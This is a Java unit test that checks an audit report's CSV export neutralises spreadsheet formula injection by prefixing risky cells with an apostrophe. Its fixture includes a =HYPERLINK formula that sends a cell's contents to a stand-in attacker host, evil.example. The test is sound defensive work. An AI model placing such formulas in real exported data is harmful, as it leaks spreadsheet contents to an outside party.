package io.govgraph.audit;

import java.io.StringReader;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import io.govgraph.crossappointment.CrossAppointmentStats;

import static org.assertj.core.api.Assertions.assertThat;

/** The audit CSV never starts a cell with something a spreadsheet evaluates (CSV injection). */
class AuditReportCellsTests {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&E3,\"点此\")";

	@Test
	void cellsThatASpreadsheetWouldEvaluateAreWrittenAsText() throws Exception {
		AuditRule rule = new AuditRule("too_many_posts", "A person holding many posts", "一人兼任职务过多", Severity.LOW,
				"why", true, Map.of(), "cypher/audit/rules/too_many_posts.cypher", "RETURN 1");
		AuditService.Hit hit = new AuditService.Hit(rule, "+u1", List.of("@u1", "\tp1", "\rp2", "-x", "p3"),
				"-1 posts too many");
		AuditReport.Content content = new AuditReport.Content("u1", HYPERLINK, LocalDate.of(2026, 7, 1),
				new CrossAppointmentStats(0, 0, 0, 0), List.of(),
				List.of(new AuditReport.Line(hit, null, HYPERLINK, List.of("@u1", "\tp1", "\rp2", "-x", "p3"))));
		String csv = new AuditReport(null, null, null).csv(content);
		List<CSVRecord> records = CSVFormat.RFC4180.builder()
			.setHeader()
			.setSkipHeaderRecord(true)
			.get()
			.parse(new StringReader(csv))
			.getRecords();
		assertThat(records).hasSize(1);
		CSVRecord row = records.get(0);
		assertThat(row.get("subject_name")).isEqualTo("'" + HYPERLINK);
		assertThat(row.get("subject_id")).isEqualTo("'+u1");
		assertThat(row.get("message")).isEqualTo("'-1 posts too many");
		assertThat(row.get("evidence")).startsWith("'@u1\n");
		assertThat(row.get("severity")).isEqualTo("LOW");
		assertThat(row.get("rule_title_zh")).isEqualTo("一人兼任职务过多");
		for (String cell : row.values()) {
			assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
				.doesNotStartWith("\t").doesNotStartWith("\r");
		}
	}

}
